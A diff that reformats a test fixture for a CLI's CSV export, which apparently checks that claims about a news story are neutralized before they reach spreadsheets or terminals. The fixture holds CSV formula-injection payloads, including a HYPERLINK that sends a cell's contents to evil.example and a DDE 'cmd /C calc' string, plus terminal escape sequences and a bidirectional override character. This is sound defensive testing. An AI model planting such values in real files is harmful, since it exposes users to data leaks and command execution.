@@ -17,16 +17,34 @@ const STORY = 'north-korean-troops-in-russia';
 /** Claims whose text a spreadsheet would run or a terminal would obey. */
 const HOSTILE: Claim[] = [
   {
-    id: 'formula-statement', story: STORY, statement: '=HYPERLINK("https://evil.example/?"&A1,"Click for details")', quote: false,
-    claimant: { name: '@SUM(1+1)*cmd|" /C calc"!A0', description: '+44 20 7946 0000' }, attribution: { reportedBy: { outlet: '-Outlet' } },
-    context: '-2+3', note: "'=already quoted by its author", tags: [], verdict: 'false', flags: [],
-    createdAt: '2026-11-26T00:00:00.000Z', updatedAt: '2026-11-26T00:00:00.000Z', addedBy: 'tester',
+    id: 'formula-statement',
+    story: STORY,
+    statement: '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
+    quote: false,
+    claimant: { name: '@SUM(1+1)*cmd|" /C calc"!A0', description: '+44 20 7946 0000' },
+    attribution: { reportedBy: { outlet: '-Outlet' } },
+    context: '-2+3',
+    note: "'=already quoted by its author",
+    tags: [],
+    verdict: 'false',
+    flags: [],
+    createdAt: '2026-11-26T00:00:00.000Z',
+    updatedAt: '2026-11-26T00:00:00.000Z',
+    addedBy: 'tester',
   },
   {
-    id: 'escapes-statement', story: STORY,
-    statement: 'Troops \x1b]8;;https://evil.example\x07seen\x1b]8;;\x07 at the \x1b[31mborder\x1b[0m \u009b2J \u202eevil', quote: false,
-    claimant: { name: 'Someone \x1b[2J' }, attribution: { reportedBy: { outlet: 'Outlet' } }, tags: [], verdict: 'unverified', flags: [],
-    createdAt: '2026-11-26T00:00:00.000Z', updatedAt: '2026-11-26T00:00:00.000Z', addedBy: 'tester',
+    id: 'escapes-statement',
+    story: STORY,
+    statement: 'Troops \x1b]8;;https://evil.example\x07seen\x1b]8;;\x07 at the \x1b[31mborder\x1b[0m \u009b2J \u202eevil',
+    quote: false,
+    claimant: { name: 'Someone \x1b[2J' },
+    attribution: { reportedBy: { outlet: 'Outlet' } },
+    tags: [],
+    verdict: 'unverified',
+    flags: [],
+    createdAt: '2026-11-26T00:00:00.000Z',
+    updatedAt: '2026-11-26T00:00:00.000Z',
+    addedBy: 'tester',
   },
 ];
 
@@ -62,7 +80,7 @@ describe('claimbot export --format csv of claims that hold formulas and terminal
     expect(row.slice(0, claimCells.length)).toBe(claimCells);
   });
 
-  it('reads back as exactly the claims it came from (the quotes it added are removed, the author\'s kept)', async () => {
+  it("reads back as exactly the claims it came from (the quotes it added are removed, the author's kept)", async () => {
     const file = join(dir, 'roundtrip.csv');
     await cli(['export', '--format', 'csv', '--out', file]);
     const other = freshDatabaseUrl();
